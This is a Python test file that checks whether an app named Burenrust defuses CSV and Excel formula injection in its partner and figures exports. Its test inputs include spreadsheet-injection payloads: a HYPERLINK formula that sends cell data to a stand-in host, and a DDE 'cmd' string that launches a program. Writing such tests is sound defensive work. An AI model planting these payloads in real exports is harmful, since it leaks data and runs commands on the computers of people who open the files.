"""Spreadsheet exports cannot be turned into formulas (CSV injection, OWASP): a
name, neighbourhood or category that starts like a formula stays text in every CSV
and Excel file Burenrust writes."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from desktop.admin import categories
from desktop.cases.registration import AddressInput, PartyInput, register_case
from desktop.data.exports import append_row, csv_text, safe_cell
from desktop.figures.counting import Period, compute
from desktop.figures.export import to_csv, to_xlsx
from desktop.partners import directory
from desktop.partners.directory import ContactInput, OrganisationInput
from tests.conftest import sample_case

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "=1+1", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_becomes_text(text):
    assert safe_cell(text) == "'" + text
    [[cell]] = list(csv.reader(io.StringIO(csv_text([[text]]))))
    assert cell == "'" + text


def test_ordinary_values_stay_as_they_are():
    assert [safe_cell(v) for v in ("Jan de Vries", "06 12345678", 12, -3, "")] == [
        "Jan de Vries", "06 12345678", 12, -3, ""]


def test_excel_cells_keep_a_formula_as_text(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    append_row(book.active, ["=1+1", 4])
    book.save(tmp_path / "x.xlsx")
    cell = load_workbook(tmp_path / "x.xlsx").active["A1"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_partner_address_list(store):
    kinds = {i.code: i.id for i in categories.list_items(store, "referrer_kinds")}
    org = directory.save_organisation(store, None, OrganisationInput(
        "=HYPERLINK(\"http://x.example\")", kinds["housing"], town="+cmd"))
    directory.save_contact(store, org, None, ContactInput("@SUM(A1)", "-1+1"))
    rows = list(csv.reader(io.StringIO(directory.export_csv(store)), delimiter=";"))
    assert rows[1][0].startswith("'=") and rows[1][1].startswith("'@")
    assert rows[1][2].startswith("'-") and rows[1][7].startswith("'+")


def test_figures_csv_and_excel(store):
    hostile = categories.add_item(store, "conflict_types", "=HYPERLINK(\"x\")")
    register_case(store, sample_case(store, conflict_type_ids=[hostile.id], parties=[
        PartyInput("A", "Jan", "", "Vries", phone="06 12345678", address=AddressInput(
            "8011 AB", "12", "Dorpstraat", "Zwolle", "=1+1", "@wijk"))]))
    figures = compute(store, Period.year(date.today().year))
    text = to_csv(figures)
    assert "'=HYPERLINK" in text and ";=" not in text
    book = load_workbook(io.BytesIO(to_xlsx(figures)))
    formulas = [c.coordinate for sheet in book for row in sheet.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    values = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
    assert '=HYPERLINK("x")' in values  # shown as typed, as text
